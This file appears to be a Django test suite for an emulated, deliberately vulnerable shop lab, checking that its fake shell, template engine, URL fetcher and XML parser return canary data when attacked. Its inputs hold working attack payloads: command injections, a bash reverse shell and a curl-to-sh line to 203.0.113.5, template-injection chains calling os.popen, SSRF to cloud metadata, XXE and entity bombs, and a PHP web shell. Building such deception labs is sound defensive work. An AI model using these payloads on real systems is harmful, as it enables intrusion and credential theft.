"""The emulated shell, templates, outside world and XML answer attackers, and never touch the machine."""

import time

from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from shop import outside, shell_emulator, template_evaluator
from shop.tests.base import BUSY_SECONDS, ShopTestCase, machine_guard

ID = "uid=1000(shop)"


class ShellAnswers(ShopTestCase):
    def answer(self, text):
        with machine_guard():
            return shell_emulator.answer(text)

    def test_every_way_to_add_a_command_is_answered(self):
        for host in (
            "127.0.0.1;id", "127.0.0.1; id", "127.0.0.1|id", "nosuch_host!||id", "127.0.0.1&&id", "127.0.0.1&id", "127.0.0.1\nid",
            "-c 1 x;id", ";i'd'", ';i"d"', ";i\\d", "; /usr/bin/id", ";$(echo id)", ";{id,-u}", ";id #", ";id>/dev/stdout",
            "; sh -c 'id'", "; echo aWQ= | base64 -d | sh", "; a=i;b=d;$a$b", "|| id", ";(id)", "; id 2>&1", "; i$@d", ";id;;",
        ):
            with self.subTest(host), machine_guard():
                self.assertIn(ID, self.page("/ping/", host=host))

    def test_what_a_substitution_printed_is_pinged(self):
        for host in ("$(whoami)", "`whoami`", '"$(whoami)"', "${USER}"):
            with self.subTest(host), machine_guard():
                self.assertIn("PING shop (shop)", self.page("/ping/", host=host))

    def test_a_plain_host_is_only_pinged(self):
        text = self.page("/ping/", host="192.0.2.7")
        self.assertIn("1 packets transmitted", text)
        self.assertNotIn(ID, text)

    def test_files_come_from_the_fake_tree(self):
        for text in ("cat /etc/passwd", "cat${IFS}/etc/passwd", "cat</dev/null /etc/passwd", "{cat,/etc/passwd}", "cat /etc/pass*",
                     "/???/c?t /etc/passwd", "cd /etc && cat passwd", "cat ../../../../etc/passwd", "head -n 20 /etc/passwd",
                     "cat /etc/passwd | grep canary", "cat $(echo /etc/passwd)", "base64 /etc/passwd | base64 -d"):
            with self.subTest(text):
                self.assertIn("backup-canary", self.answer(text))

    def test_commands_print_what_they_should(self):
        for text, printed in {
            "whoami": "shop\n", "echo $((6*7))": "42\n", "echo 'a  b' c": "a  b c\n", "pwd": "/srv/shop\n", "false || echo no": "no\n",
            "false && echo no": "", "true && echo yes": "yes\n", "echo a | cat": "a\n", "echo a; echo b": "a\nb\n", "echo $?": "0\n",
            "printf 'a\\nb'": "a\nb", "uname -s": "Linux\n", "nosuch": "sh: 1: nosuch: not found\n", "false && id | cat": "",
            "ls /srv/shop/files": "catalogue.txt\ndelivery.txt\nprice-list.csv\nterms.txt\n", "nosuch 2>/dev/null": "",
            "cat /nosuch": "cat: /nosuch: No such file or directory\n", "cat /etc/shadow": "cat: /etc/shadow: Permission denied\n",
            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1": "sh: 0: can't access tty; job control turned off\n"
            "sh: 1: cannot create /dev/tcp/203.0.113.5/4444: Directory nonexistent\n",
            "echo 'a": "sh: 1: Syntax error: Unterminated quoted string\n",
            "curl http://203.0.113.5/x | sh": "curl: (7) Failed to connect to http://203.0.113.5/x: Network is unreachable\n",
        }.items():
            with self.subTest(text):
                self.assertEqual(self.answer(text), printed)

    def test_a_sleep_takes_time_and_ends(self):
        begin = time.monotonic()
        self.answer("sleep 0.4")
        self.assertGreaterEqual(time.monotonic() - begin, 0.4)
        begin = time.monotonic()
        self.answer("sleep 900; sleep 900 | sleep 900; ping -c 900 127.0.0.1")
        self.assertLess(time.monotonic() - begin, settings.LAB_SECONDS_MAX + BUSY_SECONDS)

    def test_what_grows_without_end_is_stopped(self):
        begin = time.process_time()
        nested = "$(" * 200 + "id" + ")" * 200
        many = ";".join(["id"] * 2_000)
        doubled = "a=0123456789;" + "a=$a$a$a$a$a$a$a$a;" * 60 + "echo $a"
        for text in (nested, many, doubled, "sh -c '" + "sh -c \"id\";" * 300 + "'", "cat /*/* " * 500, "(" * 5_000, "'" * 4_001, "$" * 8_000):
            with self.subTest(text[:20]):
                self.assertLessEqual(len(self.answer(text)), 3 * shell_emulator.OUTPUT_CHARACTERS_MAX)
        self.assertLess(time.process_time() - begin, 10)

    def test_garbage_is_answered_not_raised(self):
        for text in ("", ";;;", "|", "&&", "\0", "$(", "`", "${", ">", "> ", "2>", "((", ")", "a=(b)", "\\", "$((1/0))", "$((x))",
                     "cat <<< x", "echo ${a:-b}", "{a,b}", "[[", "*", "!!", "\ud800", "cat \0", "ls " + "a/" * 3_000, "id\r\n"):
            with self.subTest(text):
                self.assertIsInstance(self.answer(text), str)


class TemplateAnswers(ShopTestCase):
    def test_expressions_are_computed(self):
        for given, printed in {
            "{{7*7}}": "49", "{{ 7*'7' }}": "7777777", "{{1+2*3}}": "7", "{{'a'+'b'}}": "ab", "a{{1}}b{{2}}": "a1b2", "{{2**6}}": "64",
        }.items():
            with self.subTest(given), machine_guard():
                self.assertIn(f"Hello {printed}!", self.page("/greet/", name=given))

    def test_what_an_attacker_looks_for_is_there(self):
        for given, printed in {
            "{{config}}": "SECRET_KEY", "{{''.__class__.__mro__[1].__subclasses__()}}": "subprocess.Popen",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}": ID, "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}":
            "backup-canary", "{{''|attr('__class__')}}": "class &#x27;str&#x27;",
            "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}": "backup-canary",
        }.items():
            with self.subTest(given), machine_guard():
                text = self.page("/greet/", name=given)
                self.assertIn(printed.replace("&#x27;", "'"), text)

    def test_nothing_is_evaluated_beyond_the_limits(self):
        begin = time.process_time()
        for given in ("{{9**9**9}}", "{{'a'*99999999}}", "{{" + "9*" * 250 + "9}}", "{{[[[[1]]]]*9}}", "{{1/0}}", "{{1 if 1 else 2}}",
                      "{{" + "(" * 280 + "}}", "{{lambda: 1}}", "{{[x for x in (1,2)]}}", "{{1.0e308*10}}", "{{" + "-" * 700 + "1}}", "{{}}"):
            with self.subTest(given), machine_guard():
                self.assertEqual(self.client.get("/greet/", {"name": given}).status_code, 500)
        self.assertLess(time.process_time() - begin, 5)

    def test_no_attribute_of_a_real_object_is_reached(self):
        with machine_guard():
            self.assertEqual(template_evaluator.evaluate("request.META.SERVER_NAME"), "")
            self.assertEqual(template_evaluator.evaluate("settings.DATABASES"), "")


class OutsideWorld(ShopTestCase):
    def test_inside_addresses_in_every_spelling_give_the_canary(self):
        for host in ("127.0.0.1", "localhost", "LOCALHOST", "127.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "[::1]",
                     "[::ffff:127.0.0.1]", "0.0.0.0", "0", "127.0.0.1.", "user@127.0.0.1", "127.9.9.9:8080"):
            with self.subTest(host), machine_guard():
                answer = self.client.get("/fetch/", {"url": f"http://{host}/"})
                self.assertContains(answer, "canary")
        for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "metadata.google.internal"):
            with self.subTest(host), machine_guard():
                answer = self.client.get("/fetch/", {"url": f"http://{host}/latest/meta-data/iam/security-credentials/lab-canary-role"})
                self.assertContains(answer, "LABCANARYNOTAKEY")

    def test_everything_else_is_refused(self):
        for url in ("http://example.com/", "http://192.0.2.1/", "http://10.0.0.1/", "gopher://127.0.0.1/", "ftp://127.0.0.1/", "",
                    "http://", "http://[", "//127.0.0.1", "http://127.0.0.1:99999/", "http://127.0.0.1.example.com/", "http://1.2.3.4.5/",
                    "http://localhost.example.com/", "http://[fe80::1]/", "http://256.0.0.1/", "http://999999999999/"):
            with self.subTest(url), machine_guard():
                self.assertEqual(self.client.get("/fetch/", {"url": url}).status_code, 502)

    def test_a_file_address_reads_the_fake_tree(self):
        self.assertContains(self.client.get("/fetch/", {"url": "file:///etc/passwd"}), "backup-canary")

    def test_addresses_are_read_as_old_libraries_do(self):
        self.assertEqual(str(outside.read_address("1.2")), "1.0.0.2")
        self.assertIsNone(outside.read_address("08.1.1.1"))


class Xml(ShopTestCase):
    def post(self, text):
        with machine_guard():
            return self.client.post("/xml/", text, content_type="application/xml")

    def test_an_external_entity_reads_the_fake_tree_or_the_canary(self):
        for address, found in (("file:///etc/passwd", "backup-canary"), ("http://169.254.169.254/latest/meta-data/", "ami-id")):
            text = f'<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "{address}">]><order><item>&x;</item></order>'
            self.assertContains(self.post(text), found)

    def test_other_hosts_are_never_asked(self):
        text = '<!DOCTYPE o [<!ENTITY x SYSTEM "http://example.com/x.dtd">]><order>&x;</order>'
        self.assertEqual(self.post(text).status_code, 500)

    def test_a_document_that_grows_stays_small_and_quick(self):
        begin = time.process_time()
        entities = '<!ENTITY a "' + "x" * 5_000 + '">'
        laughs = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(20))
        for text in (f"<!DOCTYPE o [{entities}]><o>" + "&a;" * 2_000 + "</o>", f"<!DOCTYPE o [{laughs}]><o>&a20;</o>", "<!DOCTYPE" * 1_800,
                     "<" * 16_000, "<!ENTITY a " * 1_400):
            answer = self.post(text)
            self.assertLess(len(answer.content), 20_000)
        self.assertLess(time.process_time() - begin, 5)


class WebShell(ShopTestCase):
    def test_an_uploaded_program_seems_to_run(self):
        program = SimpleUploadedFile("shell.php", b"<?php system($_GET['cmd']); ?>")
        self.assertContains(self.client.post("/upload/", {"file": program}), "/uploads/shell.php")
        with machine_guard():
            self.assertContains(self.client.get("/uploads/shell.php", {"cmd": "id"}), ID)
        self.assertContains(self.client.get("/uploads/shell.php"), "system(")
